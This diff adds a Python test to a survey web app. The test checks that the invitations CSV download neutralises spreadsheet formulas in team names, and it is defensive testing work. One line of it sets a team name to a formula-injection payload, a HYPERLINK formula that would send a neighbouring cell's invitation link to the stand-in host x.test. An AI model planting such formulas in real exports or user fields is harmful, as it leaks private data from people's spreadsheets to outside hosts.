@@ -3,11 +3,14 @@ small teams; roster upload; import preview with mapping, then import; export dow
 
 from __future__ import annotations
 
+import csv
+import io
+
 import pytest
 from sqlalchemy import func, select
 
-from ldcore.db import read_session
-from ldcore.models import Invitation, Response, SurveyWave
+from ldcore.db import read_session, unit_of_work
+from ldcore.models import Invitation, Response, SurveyWave, Team
 from tests.pages.helpers import make_account, page_test, texts
 from tests.services.survey_support import build, make_wave
 
@@ -58,6 +61,27 @@ def test_inviting_offers_the_links_and_rates_hide_small_teams(editor_page, engin
     table = at.dataframe[1].value
     assert list(table["answered"]) == ["< 5", "< 5"]
     assert "Not answered yet (8)" in texts(at)
+
+
+def test_the_links_download_neutralises_team_names_a_spreadsheet_would_run(editor_page, engine, monkeypatch):
+    from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage
+
+    with unit_of_work(engine) as session:
+        session.scalars(select(Team).where(Team.key == "alpha")).one().name = '=HYPERLINK("http://x.test?"&C2,"Open")'
+    make_wave(engine)
+    files: dict[str, bytes] = {}
+    original = MemoryMediaFileStorage.load_and_get_id
+
+    def keep(self, path_or_data, mimetype, kind, filename=None):
+        files[filename] = path_or_data
+        return original(self, path_or_data, mimetype, kind, filename)
+
+    monkeypatch.setattr(MemoryMediaFileStorage, "load_and_get_id", keep)
+    at = editor_page()
+    at.button(key="invite_button").click().run()
+    rows = list(csv.reader(io.StringIO(files["base-invitations.csv"].decode("utf-8-sig"))))
+    assert rows[0] == ["email", "team", "link"]
+    assert sorted({r[1] for r in rows[1:]}) == ['\'=HYPERLINK("http://x.test?"&C2,"Open")', "Beta Service"]
 
 
 def test_an_import_is_previewed_with_its_mapping_then_imported(editor_page, engine, monkeypatch):
